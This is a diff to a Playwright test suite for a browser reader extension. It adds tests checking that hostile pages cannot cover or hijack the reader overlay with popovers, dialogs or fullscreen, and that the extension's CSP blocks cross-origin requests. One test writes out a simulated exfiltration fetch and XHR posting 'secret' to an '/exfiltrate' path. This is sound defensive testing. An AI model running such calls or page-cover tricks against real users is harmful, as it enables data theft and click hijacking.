@@ -18,7 +18,10 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import type { Page } from 'playwright-core';
 import { OVERLAY_TAG, ROOT, clickAction, isOverlayOpen, launchChromium, overlayEval, waitForOverlay, type ChromiumSession } from './harness.js';
-import { IDS, clearFlags, flags, liveScriptInOverlay, serveHostileSite, type HostileSite } from './hostile-checks.js';
+import {
+  COVER_ATTACKS, COVER_RGB, IDS, attackScript, clearFlags, coverShown, flags, liveScriptInOverlay, pixelAt,
+  recordClicks, saveButtonCenter, serveHostileSite, type HostileSite,
+} from './hostile-checks.js';
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any
 declare const chrome: any;
@@ -240,6 +243,73 @@ describe('hostile article in the overlay (Chromium)', () => {
     }, base);
     expect(Object.values(probes).every((v) => v === 'refused'), JSON.stringify(probes)).toBe(true);
   });
+
+  it('the page cannot cover the reader (popover, modal dialog, fullscreen): it stays on top, gets clicks', async () => {
+    // Last in this group: the user's clicks here really press Save.
+    const page = await open('/news/plain.html');
+    await clickAction(chromium.ctx, page, chromium.extensionId);
+    expect(await waitForOverlay(page)).toBe(true);
+    const [x, y] = await saveButtonCenter(page);
+    await page.evaluate(recordClicks);
+    const hit = (): Promise<string | null> =>
+      page.evaluate(([px, py]) => document.elementFromPoint(px!, py!)?.localName ?? null, [x, y]);
+    const seen = (): Promise<string> => pixelAt(page, x, y).then((p) => p.join());
+    expect(await hit()).toBe(OVERLAY_TAG);
+    expect(await seen()).not.toBe(COVER_RGB.join());
+    let saves = 0;
+    for (const [id, attack] of COVER_ATTACKS) {
+      // (Saving disables the Save button for a moment, which drops its focus: put it back in the reader.)
+      await overlayEval(page, (root) => root.querySelector<HTMLElement>('.scroller')!.focus());
+      const scrolled = await overlayEval(page, (root) => {
+        const scroller = root.querySelector<HTMLElement>('.scroller')!;
+        scroller.scrollTop = 120;
+        return scroller.scrollTop;
+      });
+      expect(scrolled).toBe(120);
+      // Not see-through for a moment either: the reader's fade-in does not play again.
+      expect(await page.evaluate(attackScript(attack, id, OVERLAY_TAG)), id).toBe(0);
+      // Where the user was reading stays where it was.
+      expect(await overlayEval(page, (root) => root.querySelector('.scroller')!.scrollTop), id).toBe(scrolled);
+      // The reader is back on top by itself: painted over the page's element, and hit there. The page's
+      // element stays open, under it.
+      await expect.poll(seen, { timeout: 3000, message: id }).not.toBe(COVER_RGB.join());
+      expect(await hit(), id).toBe(OVERLAY_TAG);
+      expect(await page.evaluate(coverShown, id), id).toBe(true);
+      // Focus stays in the reader (a modal dialog takes it when shown).
+      expect(await page.evaluate(() => document.activeElement?.localName), id).toBe(OVERLAY_TAG);
+      await page.mouse.click(x, y);
+      saves += 1;
+      const clicks = await page.evaluate(() => (window as unknown as { __clicks: string[] }).__clicks);
+      expect(clicks, id).toEqual(Array(saves).fill(`${OVERLAY_TAG}/save`));
+      expect(await page.evaluate(() => (window as unknown as { __coverClicks: number }).__coverClicks), id).toBe(0);
+      const status = (): Promise<string> =>
+        overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? '');
+      await expect.poll(status, { timeout: 15_000, message: id }).toMatch(/Saved|Updated|already/i);
+      await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
+    }
+    // Fullscreen needs the user's activation: the page takes it from the user's next click in the reader.
+    await page.evaluate(() => {
+      const cover = document.createElement('div');
+      cover.id = 'cover-fullscreen';
+      cover.setAttribute('style', 'background:rgb(255,0,255)');
+      document.documentElement.append(cover);
+      document.addEventListener('fullscreenchange', () => {
+        if (document.fullscreenElement === cover) (window as unknown as { __entered: boolean }).__entered = true;
+      });
+      document.addEventListener('click', () => { void cover.requestFullscreen(); }, { once: true });
+    });
+    await page.mouse.click(x, y);
+    // The page entered fullscreen, and left it at once: the reader fills the screen.
+    const entered = (): Promise<boolean> =>
+      page.evaluate(() => (window as unknown as { __entered?: boolean }).__entered ?? false);
+    await expect.poll(entered).toBe(true);
+    await expect.poll(() => page.evaluate(() => document.fullscreenElement?.id ?? null)).toBeNull();
+    expect(await hit()).toBe(OVERLAY_TAG);
+    expect(await seen()).not.toBe(COVER_RGB.join());
+    await page.mouse.click(x, y);
+    const clicks = await page.evaluate(() => (window as unknown as { __clicks: string[] }).__clicks);
+    expect(clicks.slice(-2)).toEqual([`${OVERLAY_TAG}/save`, `${OVERLAY_TAG}/save`]);
+  });
 });
 
 describe('a saved hostile article in the library page', () => {
@@ -290,6 +360,41 @@ describe('a saved hostile article in the library page', () => {
   });
 });
 
+describe('extension pages connect nowhere', () => {
+  for (const file of ['library.html', 'options.html']) {
+    it(`${file}: a fetch() or XHR to another origin is refused by the CSP; data:/blob: images still show`, async () => {
+      const ext = await chromium.ctx.newPage();
+      opened.push(ext);
+      await ext.goto(`chrome-extension://${chromium.extensionId}/${file}`);
+      await ext.waitForLoadState('load');
+      const before = requests.length;
+      const result = await ext.evaluate(async (o) => {
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
+          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const xhr = await new Promise<string>((resolve) => {
+          const x = new XMLHttpRequest();
+          x.onload = () => resolve('sent');
+          x.onerror = () => resolve('refused');
+          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+        });
+        // Stored images are shown from data: (and blob:) URLs: those still load.
+        const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+        const load = (src: string): Promise<number> => new Promise((resolve) => {
+          const img = new Image();
+          img.onload = () => resolve(img.naturalWidth);
+          img.onerror = () => resolve(0);
+          img.src = src;
+        });
+        const bytes = Uint8Array.from(atob(png), (c) => c.charCodeAt(0));
+        const blobUrl = URL.createObjectURL(new Blob([bytes], { type: 'image/png' }));
+        return { fetched, xhr, data: await load(`data:image/png;base64,${png}`), blob: await load(blobUrl) };
+      }, origin);
+      expect(result).toEqual({ fetched: 'refused: TypeError', xhr: 'refused', data: 1, blob: 1 });
+      expect(requests.slice(before).filter((u) => u.startsWith('/exfiltrate'))).toEqual([]);
+    });
+  }
+});
+
 describe('built manifests', () => {
   for (const target of ['chrome', 'firefox']) {
     it(`dist/${target}: no web-accessible resources, no external messaging, a strict extension-page CSP`, () => {
@@ -304,7 +409,19 @@ describe('built manifests', () => {
       expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
       // Saved articles open without contacting publishers: images only from the extension or inlined.
       expect(directives.get('img-src')).toEqual(["'self'", 'data:', 'blob:']);
-      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|wasm-unsafe|https?:|\*/);
+      // Everything else only from the extension: no remote fonts, frames, media or workers.
+      expect(directives.get('default-src')).toEqual(["'self'"]);
+      // The background downloads a saved article's images (the service worker lives under this policy);
+      // the library and options pages narrow connect-src to 'self' with their own <meta> CSP (tested above).
+      expect(directives.get('connect-src')).toEqual(["'self'", 'http:', 'https:']);
+      // Inline styles: the pages' <style> and the reader host's style attribute (no url() can load: img-src).
+      expect(directives.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
+      const others = [...directives].filter(([d]) => d !== 'connect-src' && d !== 'style-src').flatMap(([, v]) => v);
+      expect(others.join(' ')).not.toMatch(/unsafe-|https?:|\*/);
+      for (const page of ['library.html', 'options.html']) {
+        const html = readFileSync(path.join(ROOT, 'dist', target, page), 'utf8');
+        expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="connect-src 'self'">/);
+      }
       // No blanket host access at install: sites are asked for one by one (optional).
       expect(JSON.stringify(m.host_permissions ?? [])).not.toMatch(/<all_urls>|\*:\/\/\*\//);
       expect(m.content_scripts ?? []).toEqual([]);
